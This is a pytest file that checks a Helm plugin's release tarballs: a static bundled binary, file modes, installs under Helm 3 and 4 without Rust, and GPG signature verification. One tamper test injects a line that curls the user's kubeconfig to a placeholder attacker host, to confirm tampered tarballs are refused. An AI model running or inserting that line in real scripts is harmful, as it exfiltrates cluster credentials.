"""The release tarballs of `bash helm-plugin/package.sh` (run.sh runs it first) under real Helm 3 and 4.

A Helm user has neither Rust nor a checkout: every install here runs with PATH=/usr/bin:/bin (no
cargo, no vaultwire), so the plugin can only work through the binary bundled in the tarball. Also:
the binary is static, the tarballs hold real files with their modes, a signed tarball verifies and
a tampered or unsigned one is refused, and `cargo package` ships nothing that only tests need.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import os
import shutil
import subprocess
import tarfile
import tomllib
from pathlib import Path

import pytest
import yaml

from helmenv import (CHART, DIST, NAMESPACE, PLUGIN_SRC, POSTRENDERER, RELEASE, REPO, SYSTEM_PATH, VAULT, Helm,
                     by_id, config, mode_mark, renderer_args)

VERSION = tomllib.loads((REPO / "Cargo.toml").read_text())["package"]["version"]
COMMAND = "vaultwire"  # the command plugin (helm vaultwire), Helm 3 and 4
PLUGINS = (COMMAND, POSTRENDERER)
PLATFORM = "linux-amd64"  # what this machine is, in Helm's GOOS-GOARCH words
BUNDLED = f"vaultwire: using the bundled {PLATFORM} binary (vaultwire {VERSION})"
SCRIPTS = ("find-vaultwire.sh", "helm-vaultwire.sh", "install.sh", "postrender.sh")
GATEWAY = ("Deployment", "portkey-gateway")


def tarball(name: str, dist: Path = DIST) -> Path:
    path = dist / f"{name}-{VERSION}.tgz"
    if not path.is_file():
        pytest.fail(f"{path} is missing: run `bash helm-plugin/package.sh` first (tests/helm/run.sh does)")
    return path


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def extract(tgz: Path, into: Path) -> Path:
    """The plugin directory inside `tgz`, unpacked under `into` (Helm 3's way: extract, then install a dir)."""
    into.mkdir(parents=True, exist_ok=True)
    with tarfile.open(tgz) as t:
        t.extractall(into, filter="tar")
    (top,) = into.iterdir()
    return top


@pytest.fixture
def bare(request) -> Helm:
    """Real Helm with no cargo and no vaultwire on PATH: only the tarball's binary can serve."""
    helm: Helm = request.getfixturevalue(request.param)
    helm.path = SYSTEM_PATH
    assert shutil.which("cargo", path=SYSTEM_PATH) is None, f"cargo is in {SYSTEM_PATH}"
    assert shutil.which("vaultwire", path=SYSTEM_PATH) is None, f"vaultwire is in {SYSTEM_PATH}"
    return helm


def on(*majors: int):
    return pytest.mark.parametrize("bare", [f"helm{m}" for m in majors], indirect=True)


def assert_bundled_binary_ran(helm: Helm, plugin: str, rendered: str) -> None:
    """The gateway was wired, and the binary that did it can only be the bundled one: the plugin's
    bin/vaultwire links to bin/linux-amd64/vaultwire, byte for byte the tarball's, and nothing else
    named vaultwire is on PATH."""
    gateway = by_id(rendered)[GATEWAY]
    assert mode_mark("mount", gateway), yaml.safe_dump(gateway)
    assert gateway["spec"]["template"]["metadata"]["annotations"][VAULT + "agent-inject"] == "true"
    link = helm.plugins / plugin / "bin" / "vaultwire"
    assert os.readlink(link) == f"{PLATFORM}/vaultwire"
    with tarfile.open(tarball(plugin)) as t:
        shipped = t.extractfile(f"{plugin}/bin/{PLATFORM}/vaultwire").read()
    assert link.resolve().read_bytes() == shipped


# --- what package.sh built ---------------------------------------------------------------------


def test_the_bundled_binary_is_static(tmp_path):
    top = extract(tarball(COMMAND), tmp_path)
    binary = top / "bin" / PLATFORM / "vaultwire"
    kind = subprocess.run(["file", "-b", str(binary)], capture_output=True, text=True, check=True).stdout
    assert "statically linked" in kind or "static-pie linked" in kind, kind
    assert "x86-64" in kind, kind
    ldd = subprocess.run(["ldd", str(binary)], capture_output=True, text=True)
    said = ldd.stdout + ldd.stderr
    assert "not a dynamic executable" in said or "statically linked" in said, said
    assert "libc.so" not in said, said
    version = subprocess.run([str(binary), "--version"], capture_output=True, text=True, env={"PATH": SYSTEM_PATH})
    assert version.stdout.strip() == f"vaultwire {VERSION}", version


@pytest.mark.parametrize("plugin", PLUGINS)
def test_tarball_holds_the_plugin_dir_as_real_files(plugin):
    with tarfile.open(tarball(plugin)) as t:
        members = {m.name: m for m in t.getmembers()}
        for m in members.values():
            assert m.name == plugin or m.name.startswith(plugin + "/"), f"{m.name} is outside {plugin}/"
            assert m.isfile() or m.isdir(), f"{m.name} is not a plain file or directory (type {m.type!r})"
        for script in SCRIPTS:
            m = members[f"{plugin}/scripts/{script}"]
            assert m.mode & 0o111 == 0o111, f"{m.name} has mode {m.mode:o}: not executable"
            # the one copy in helm-plugin/scripts, copied in
            assert t.extractfile(m).read() == (PLUGIN_SRC / "scripts" / script).read_bytes()
        binary = members[f"{plugin}/bin/{PLATFORM}/vaultwire"]
        assert binary.mode & 0o111 == 0o111, f"{binary.name} has mode {binary.mode:o}"
        assert binary.size > 1_000_000
        assert f"{plugin}/LICENSE" in members
        manifest = t.extractfile(f"{plugin}/plugin.yaml").read()
    meta = yaml.safe_load(manifest)
    assert meta["name"] == plugin
    assert meta["version"] == VERSION
    assert manifest == (PLUGIN_SRC / ("cli" if plugin == COMMAND else "postrenderer") / "plugin.yaml").read_bytes()


def test_cargo_package_ships_only_what_the_build_needs():
    listed = subprocess.run(["cargo", "package", "--list", "--locked", "--allow-dirty"], cwd=REPO,
                            capture_output=True, text=True)
    assert listed.returncode == 0, listed.stderr
    files = set(listed.stdout.split())
    for needed in ("Cargo.toml", "Cargo.lock", "README.md", "LICENSE", "CHANGELOG.md", "src/main.rs", "src/lib.rs"):
        assert needed in files, f"{needed} is not in the package: {sorted(files)}"
    test_only = ("tests/", "fuzz/", "bench/", "web/", "wasm/", "examples/", "helm-plugin/", ".ci/")
    leaked = sorted(f for f in files if f.startswith(test_only))
    assert not leaked, f"cargo package would ship what only the tests, fuzzing or the repository need: {leaked}"


def test_license_is_the_apache_2_text():
    text = (REPO / "LICENSE").read_text()
    assert tomllib.loads((REPO / "Cargo.toml").read_text())["package"]["license"] == "Apache-2.0"
    assert "Apache License\n                           Version 2.0, January 2004" in text
    assert "END OF TERMS AND CONDITIONS" in text and "APPENDIX: How to apply the Apache License" in text
    # the canonical https://www.apache.org/licenses/LICENSE-2.0.txt, byte for byte
    assert sha256(REPO / "LICENSE") == "cfc7749b96f63bd31c3c42b5c471bf756814053e847c10f3eb003417bc523d30"


# --- installed without Rust, then a chart rendered through it -----------------------------------


@on(4)
def test_helm4_installs_both_tarballs_and_renders_through_the_bundled_binary(bare):
    for plugin in PLUGINS:
        done = bare.install_plugin(tarball(plugin), "--verify=false")
        assert done.returncode == 0, done.stdout + done.stderr
        assert BUNDLED in done.stdout, done.stdout
        assert "WARNING: Skipping plugin signature verification" in done.stdout

    rendered = bare.ok("template", RELEASE, str(CHART), "-n", NAMESPACE, "--post-renderer", POSTRENDERER,
                       *renderer_args("-c", config("mount")))
    assert_bundled_binary_ran(bare, POSTRENDERER, rendered)

    rendered = bare.ok("vaultwire", "template", RELEASE, str(CHART), "-n", NAMESPACE, "--", "-c", config("mount"))
    assert_bundled_binary_ran(bare, COMMAND, rendered)

    # and it was that binary or none: without it, the post-renderer fails the render
    (bare.plugins / POSTRENDERER / "bin" / PLATFORM / "vaultwire").unlink()
    gone = bare.run("template", RELEASE, str(CHART), "-n", NAMESPACE, "--post-renderer", POSTRENDERER,
                    *renderer_args("-c", config("mount")))
    assert gone.returncode != 0, gone.stdout[:500]


@on(3)
def test_helm3_installs_the_extracted_command_plugin_and_renders_through_the_bundled_binary(bare, tmp_path):
    # Helm 3 installs only a directory ("expected plugin to be a folder"): the README says extract first
    refused = bare.install_plugin(tarball(COMMAND))
    assert refused.returncode != 0
    assert "expected plugin to be a folder" in refused.stderr, refused.stderr

    plugin_dir = extract(tarball(COMMAND), tmp_path / "plugins-src")
    done = bare.install_plugin(plugin_dir)
    assert done.returncode == 0, done.stdout + done.stderr
    assert BUNDLED in done.stdout, done.stdout

    rendered = bare.ok("vaultwire", "template", RELEASE, str(CHART), "-n", NAMESPACE, "--", "-c", config("mount"))
    assert_bundled_binary_ran(bare, COMMAND, rendered)


@on(3, 4)
def test_no_binary_for_this_platform_and_none_on_path_fails_the_install_and_says_what_to_do(bare, tmp_path):
    plugin_dir = extract(tarball(COMMAND), tmp_path / "plugins-src")
    shutil.rmtree(plugin_dir / "bin" / PLATFORM)
    done = bare.install_plugin(plugin_dir)
    assert done.returncode != 0, done.stdout
    said = done.stderr
    assert f"vaultwire: no vaultwire binary for {PLATFORM} here, none on PATH, and no checkout to build from" in said
    assert "cargo install vaultwire" in said and "release tarball" in said, said
    assert 'plugin install hook for "vaultwire" exited with error' in said, said


# --- signatures (Helm 4) -----------------------------------------------------------------------


def gpg(home: Path, *args: str) -> str:
    done = subprocess.run(["gpg", "--homedir", str(home), "--batch", *args], capture_output=True)
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout.decode()


@pytest.fixture(scope="session")
def gnupg(tmp_path_factory):
    """A throwaway key, its public keyring and its legacy secret keyring (all Helm reads); and
    the public keyring of another key, which did not sign anything."""
    base = tmp_path_factory.mktemp("gpg")
    homes = []
    rings = {}
    for who in ("signer", "stranger"):
        home = base / who
        home.mkdir(mode=0o700)
        homes.append(home)
        gpg(home, "--passphrase", "", "--quick-gen-key", f"vaultwire {who} <{who}@example.invalid>",
            "default", "default", "never")
        # the keyrings sit outside the GnuPG home: a secring.gpg inside it makes gpg "migrate" it
        rings[who] = base / f"{who}-pub.gpg"
        rings[who].write_bytes(subprocess.run(["gpg", "--homedir", str(home), "--batch", "--export"],
                                              capture_output=True, check=True).stdout)
    secring = base / "signer-secring.gpg"
    secring.write_bytes(subprocess.run(["gpg", "--homedir", str(homes[0]), "--batch", "--export-secret-keys"],
                                       capture_output=True, check=True).stdout)
    yield {"key": "vaultwire signer <signer@example.invalid>", "secring": secring, **rings}
    for home in homes:  # the agents gpg started for these homes, and only those
        subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "gpg-agent"], capture_output=True)


@pytest.fixture(scope="session")
def signed(gnupg, helm4_bin, tmp_path_factory) -> Path:
    """package.sh with VAULTWIRE_SIGNING_KEY into a dist dir of its own (target/dist stays
    unsigned); cargo has nothing to rebuild, so this takes seconds."""
    dist = tmp_path_factory.mktemp("dist-signed")
    env = dict(os.environ, VAULTWIRE_SIGNING_KEY=gnupg["key"], VAULTWIRE_SIGNING_KEYRING=str(gnupg["secring"]),
               VAULTWIRE_DIST=str(dist), VAULTWIRE_HELM4=str(helm4_bin))
    done = subprocess.run(["bash", "helm-plugin/package.sh"], cwd=REPO, env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    for plugin in PLUGINS:
        assert (dist / f"{plugin}-{VERSION}.tgz.prov").is_file(), f"no .prov for {plugin}: {done.stdout}"
    return dist


@pytest.mark.parametrize("plugin", PLUGINS)
def test_signed_tarball_verifies_and_installs(plugin, signed, gnupg, helm4):
    tgz = tarball(plugin, signed)
    # signing adds the .prov and leaves the tarball as it was: package.sh's output is reproducible
    assert sha256(tgz) == sha256(tarball(plugin)), "target/dist is stale: run bash helm-plugin/package.sh"
    helm4.path = SYSTEM_PATH
    done = helm4.install_plugin(tgz, "--verify", "--keyring", str(gnupg["signer"]))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Verifying plugin signature..." in done.stdout
    assert f"Signed by: {gnupg['key']}" in done.stdout, done.stdout
    assert f"Plugin Hash Verified: sha256:{sha256(tgz)}" in done.stdout, done.stdout
    assert BUNDLED in done.stdout
    assert f"Installed plugin: {plugin}" in done.stdout


def flip_one_byte(tgz: Path) -> None:
    data = bytearray(tgz.read_bytes())
    data[len(data) // 2] ^= 0x01
    tgz.write_bytes(bytes(data))


def change_a_script(tgz: Path) -> None:
    """Unpack, add one line to the post-renderer script, pack again (a valid tarball, other bytes)."""
    out = io.BytesIO()
    with tarfile.open(tgz) as src, tarfile.open(fileobj=out, mode="w") as dst:
        for m in src.getmembers():
            data = src.extractfile(m).read() if m.isfile() else None
            if m.name.endswith("/scripts/postrender.sh"):
                data += b"curl -s https://attacker.invalid/ -d @$HOME/.kube/config\n"
                m.size = len(data)
            dst.addfile(m, io.BytesIO(data) if data is not None else None)
    tgz.write_bytes(gzip.compress(out.getvalue()))


@pytest.mark.parametrize("tamper", [flip_one_byte, change_a_script], ids=["one-byte", "changed-script"])
def test_tampered_tarball_is_refused(tamper, signed, gnupg, helm4, tmp_path):
    name = f"{POSTRENDERER}-{VERSION}.tgz"
    shutil.copy(signed / name, tmp_path / name)
    shutil.copy(signed / f"{name}.prov", tmp_path / f"{name}.prov")  # the old signature
    tamper(tmp_path / name)
    done = helm4.install_plugin(tmp_path / name, "--verify", "--keyring", str(gnupg["signer"]))
    assert done.returncode != 0, done.stdout
    assert f"Error: plugin verification failed: sha256 sum does not match for {name}" in done.stderr, done.stderr
    assert not (helm4.plugins / POSTRENDERER).exists()


def test_signature_by_a_key_not_in_the_keyring_is_refused(signed, gnupg, helm4):
    done = helm4.install_plugin(tarball(POSTRENDERER, signed), "--verify", "--keyring", str(gnupg["stranger"]))
    assert done.returncode != 0, done.stdout
    assert "Error: plugin verification failed: openpgp: signature made by unknown entity" in done.stderr, done.stderr
    assert not (helm4.plugins / POSTRENDERER).exists()


def test_unsigned_tarball_needs_verify_false(helm4):
    helm4.path = SYSTEM_PATH
    tgz = tarball(POSTRENDERER)
    assert not Path(f"{tgz}.prov").exists(), "target/dist should hold the unsigned build"
    refused = helm4.install_plugin(tgz)  # Helm 4 verifies by default
    assert refused.returncode != 0, refused.stdout
    assert "Error: plugin verification failed: no provenance file (.prov) found" in refused.stderr, refused.stderr
    assert not (helm4.plugins / POSTRENDERER).exists()

    done = helm4.install_plugin(tgz, "--verify=false")
    assert done.returncode == 0, done.stderr
    assert "WARNING: Skipping plugin signature verification" in done.stdout
    assert BUNDLED in done.stdout
